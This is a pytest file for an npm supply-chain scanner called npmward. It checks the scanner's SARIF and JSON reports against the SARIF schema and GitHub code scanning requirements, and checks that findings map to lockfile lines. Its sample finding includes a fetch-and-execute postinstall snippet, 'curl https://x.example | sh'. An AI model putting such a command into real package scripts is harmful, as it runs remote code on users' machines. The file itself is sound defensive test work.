"""SARIF validates against the official 2.1.0 schema and GitHub code scanning's own requirements;
a project report carries only actionable results, each at a real location with its rule."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from urllib.parse import unquote

import jsonschema
import pytest
from typer.testing import CliRunner

from npmward.lockfiles import LOCKFILE_NAMES, read_lockfile
from npmward.model import Action, Confidence, Finding, PackageId, PackageReport, ScanReport, Severity, TargetError
from npmward.report import RenderOptions, render
from npmward.report.locate import LockfileIndex
from npmward.verdict import decide

SCHEMA = json.loads((Path(__file__).parent / "schemas" / "sarif-2.1.0-rtm.5.json").read_text())
GITHUB_LEVELS = {"error", "warning", "note"}


def github_problems(sarif: dict) -> list[str]:  # noqa: C901 - one check per rule of GitHub's upload validation
    """What GitHub code scanning requires beyond the schema ("SARIF support for code scanning"):
    a named tool, rules with an id, descriptions and a numeric security-severity, and results with a
    ruleId that is in rules[], a message, one to ten locations whose artifact URI is relative to
    the repository (no scheme, no leading slash, no `..`) with a start line, and fingerprints."""
    problems = []
    if sarif.get("version") != "2.1.0":
        problems.append("version must be 2.1.0")
    for run in sarif["runs"]:
        driver = run["tool"]["driver"]
        if not driver.get("name"):
            problems.append("tool.driver.name is required")
        rules = driver.get("rules", [])
        ids = [r.get("id") for r in rules]
        if len(ids) != len(set(ids)):
            problems.append("rule ids must be unique")
        for rule in rules:
            for key in ("id", "name", "shortDescription", "fullDescription", "help"):
                if not rule.get(key):
                    problems.append(f"rule {rule.get('id')}: {key} missing")
            severity = rule.get("properties", {}).get("security-severity")
            try:
                if not 0.0 <= float(severity) <= 10.0:
                    raise ValueError
            except (TypeError, ValueError):
                problems.append(f"rule {rule.get('id')}: security-severity {severity!r} is not a number 0-10")
            if len(rule.get("properties", {}).get("tags", [])) > 20:
                problems.append(f"rule {rule['id']}: more than 20 tags")
        if len(run["results"]) > 25_000:
            problems.append("more than 25,000 results")
        for result in run["results"]:
            rid = result.get("ruleId")
            if rid not in ids:
                problems.append(f"result ruleId {rid!r} not in rules[]")
            elif "ruleIndex" in result and ids[result["ruleIndex"]] != rid:
                problems.append(f"result {rid}: ruleIndex points at {ids[result['ruleIndex']]}")
            if result.get("level") not in GITHUB_LEVELS:
                problems.append(f"result {rid}: level {result.get('level')!r}")
            if not result.get("message", {}).get("text"):
                problems.append(f"result {rid}: message.text missing")
            locations = result.get("locations") or []
            if not 1 <= len(locations) <= 10:
                problems.append(f"result {rid}: {len(locations)} locations")
            for location in locations:
                physical = location.get("physicalLocation", {})
                uri = physical.get("artifactLocation", {}).get("uri", "")
                if not uri or "://" in uri or uri.startswith("/") or ".." in uri.split("/"):
                    problems.append(f"result {rid}: artifact uri {uri!r} is not relative to the repository")
                if physical.get("region", {}).get("startLine", 0) < 1:
                    problems.append(f"result {rid}: region.startLine missing")
            if not result.get("partialFingerprints"):
                problems.append(f"result {rid}: partialFingerprints missing")
    return problems


LOCK = """{
  "name": "root",
  "lockfileVersion": 3,
  "packages": {
    "": {"name": "root", "version": "1.0.0", "dependencies": {"micromatch": "^4.0.5"}},
    "node_modules/braces": {
      "version": "3.0.2",
      "integrity": "sha512-x"
    },
    "node_modules/micromatch": {
      "version": "4.0.5"
    }
  }
}
"""


def sample_report(lockfile: str) -> ScanReport:
    bad = Finding("install-script/fetch-and-execute", Severity.CRITICAL, Confidence.HIGH, "dropper",
                  "The `postinstall` script downloads code and pipes it to an interpreter.",
                  "package.json", 5, "postinstall: curl https://x.example | sh")
    vuln = Finding("audit/vulnerability", Severity.HIGH, Confidence.MEDIUM, "vulnerability",
                   "braces@3.0.2: ReDoS (GHSA-grv7-fg5c-xmjg); fixed in 3.0.3", lockfile, None, None,
                   {"id": "GHSA-grv7-fg5c-xmjg", "fixed_in": "3.0.3", "url": "https://osv.dev/GHSA-grv7-fg5c-xmjg"})
    code = Finding("code/shell-command", Severity.MEDIUM, Confidence.MEDIUM, "dropper", "runs a command",
                   "lib/x.js", 12, "exec(cmd)")
    info = Finding("integrity/verified", Severity.INFO, Confidence.HIGH, "integrity", "integrity verified",
                   details={"check": "integrity", "status": "verified"})
    packages = (
        PackageReport(PackageId("@evil/pkg", "1.0.0"), "tarball:x.tgz", "sha512-AAAA", decide([bad]), (bad,),
                      action=Action.BLOCK),
        PackageReport(PackageId("braces", "3.0.2"), "lockfile:registry", None, decide([vuln, code, info]),
                      (vuln, code, info), paths=(("root@1.0.0", "micromatch@4.0.5", "braces@3.0.2"),),
                      lockfile=lockfile),
    )
    return ScanReport(packages, (TargetError("nope.tgz", "no such file"),), ("database is 9 days old",))


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "package-lock.json").write_text(LOCK)
    return tmp_path


def sarif_of(report: ScanReport, **options) -> dict:
    return json.loads(render(report, "sarif", RenderOptions(**options)))


def test_sarif_validates_against_the_official_schema_and_githubs_requirements(project):
    sarif = sarif_of(sample_report(str(project / "app" / "package-lock.json")))
    jsonschema.validate(sarif, SCHEMA)
    assert github_problems(sarif) == []
    run = sarif["runs"][0]
    assert run["invocations"][0]["executionSuccessful"] is False


def test_only_actionable_results_by_default_and_a_level_to_choose(project):
    report = sample_report("app/package-lock.json")
    results = sarif_of(report)["runs"][0]["results"]
    assert [r["ruleId"] for r in results] == ["install-script/fetch-and-execute", "GHSA-grv7-fg5c-xmjg",
                                              "code/shell-command"]
    assert not any("verified" in r["message"]["text"] for r in results)
    assert [r["ruleId"] for r in sarif_of(report, min_severity=Severity.HIGH)["runs"][0]["results"]] == [
        "install-script/fetch-and-execute", "GHSA-grv7-fg5c-xmjg"]
    everything = sarif_of(report, min_severity=Severity.INFO)["runs"][0]["results"]
    assert "integrity/verified" in [r["ruleId"] for r in everything]


def test_each_result_is_at_a_real_location(project):
    report = sample_report("app/package-lock.json")
    evil, vuln, code = sarif_of(report)["runs"][0]["results"]
    # A package that did not come from a lockfile: the file inside it, under a name@version prefix.
    location = evil["locations"][0]["physicalLocation"]
    assert location["artifactLocation"]["uri"] == "@evil/pkg@1.0.0/package.json"
    assert location["region"]["startLine"] == 5
    # A lockfile package: the line of its entry in the lockfile, which exists in the repository.
    lines = LOCK.splitlines()
    for result in (vuln, code):
        location = result["locations"][0]["physicalLocation"]
        assert location["artifactLocation"]["uri"] == "app/package-lock.json"
        assert lines[location["region"]["startLine"] - 1].strip() == '"node_modules/braces": {'
    assert "lib/x.js:12" in code["message"]["text"] and code["properties"]["packageFile"] == "lib/x.js:12"
    # The fix points at the direct dependency that brings braces in.
    assert "3.0.3" in vuln["message"]["text"] and "micromatch@4.0.5" in vuln["message"]["text"]


def test_rules_come_from_the_findings_with_advisories_as_their_own_rules(project):
    run = sarif_of(sample_report("app/package-lock.json"))["runs"][0]
    rules = {r["id"]: r for r in run["tool"]["driver"]["rules"]}
    assert set(rules) == {r["ruleId"] for r in run["results"]}
    assert rules["GHSA-grv7-fg5c-xmjg"]["properties"]["security-severity"] == "7.5"
    assert rules["GHSA-grv7-fg5c-xmjg"]["helpUri"] == "https://osv.dev/GHSA-grv7-fg5c-xmjg"
    assert rules["install-script/fetch-and-execute"]["defaultConfiguration"]["level"] == "error"
    assert rules["code/shell-command"]["properties"]["security-severity"] == "5.0"


def test_sarif_schema_rejects_a_broken_document(project):
    sarif = sarif_of(sample_report("app/package-lock.json"))
    sarif["runs"][0]["results"][0]["level"] = "fatal"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(sarif, SCHEMA)
    assert github_problems(sarif)


def test_json_report_shape(project):
    data = json.loads(render(sample_report("app/package-lock.json"), "json"))
    assert data["tool"]["name"] == "npmward"
    pkg = data["packages"][0]
    assert {"name", "version", "integrity", "source", "verdict", "score", "findings"} <= set(pkg)
    assert pkg["verdict"] == "malicious" and 0 <= pkg["score"] <= 10
    assert set(pkg["findings"][0]) >= {"rule", "severity", "confidence", "category", "message", "file", "line", "snippet"}
    assert data["packages"][1]["paths"] == [["root@1.0.0", "micromatch@4.0.5", "braces@3.0.2"]]
    assert data["packages"][1]["lockfile"] == "app/package-lock.json"
    assert data["errors"] == [{"target": "nope.tgz", "message": "no such file"}]
    assert data["checks"] == [{"check": "integrity", "verified": 1, "not_checked_reasons": []}]


def test_findings_round_trip_through_the_cache_form():
    for package in sample_report("package-lock.json").packages:
        for finding in package.findings:
            assert Finding.from_dict(json.loads(json.dumps(finding.to_dict()))) == finding


# -- lockfile lines, on every real lockfile ---------------------------------------------------------------

def test_every_registry_package_of_the_real_lockfiles_is_found_on_its_entry_line(shared_dir):
    """Each format's entries (package-lock v1-v3 keys, yarn v1 and Berry keys with their version
    lines, pnpm 5-9 and bun one-line entries) are located; workspaces and aliases may fall back."""
    lockfiles = sorted(p for p in (shared_dir / "fixtures" / "lockfiles").rglob("*") if p.name in LOCKFILE_NAMES)
    assert len(lockfiles) >= 15
    for path in lockfiles:
        graph = read_lockfile(path)
        lines = path.read_text(encoding="utf-8").splitlines()
        index = LockfileIndex("\n".join(lines))
        registry = [p for p in graph.packages if p.kind.value == "registry" and p.real_name is None]
        found = {p.key: index.line(p.name, p.version) for p in registry}
        missing = [key for key, line in found.items() if line is None]
        assert len(missing) <= max(1, len(registry) // 500), (path, missing[:5])
        for package in registry:
            line = found[package.key]
            if line is not None:
                assert package.name in lines[line - 1], (path, package.key, lines[line - 1])


# -- a project report through the command ---------------------------------------------------------------

def test_a_project_audit_in_sarif_has_no_note_noise_and_points_at_lockfile_lines(shared_dir, tmp_path, monkeypatch):
    from npmward.cli import app

    source = shared_dir / "fixtures" / "lockfiles" / "pnpm-9.0" / "has-vulnerabilities"
    project = tmp_path / "repo"
    shutil.copytree(source, project, ignore=shutil.ignore_patterns("*.source.txt"))
    monkeypatch.chdir(project)
    runner = CliRunner()
    assert runner.invoke(app, ["db", "import", str(shared_dir / "fixtures" / "osv")]).exit_code == 0
    result = runner.invoke(app, ["audit", ".", "--format", "sarif", "--output", "audit.sarif"])
    assert result.exit_code == 1, result.output
    sarif = json.loads((project / "audit.sarif").read_text())
    jsonschema.validate(sarif, SCHEMA)
    assert github_problems(sarif) == []
    results = sarif["runs"][0]["results"]
    assert results and {r["level"] for r in results} <= {"error", "warning", "note"}
    assert all(r["properties"]["severity"] != "info" for r in results)
    lines = (project / "pnpm-lock.yaml").read_text().splitlines()
    for result in results:
        location = result["locations"][0]["physicalLocation"]
        assert unquote(location["artifactLocation"]["uri"]) == "pnpm-lock.yaml"
        line = lines[location["region"]["startLine"] - 1]
        assert f"{result['properties']['package']}@{result['properties']['version']}" in line, (result["ruleId"], line)
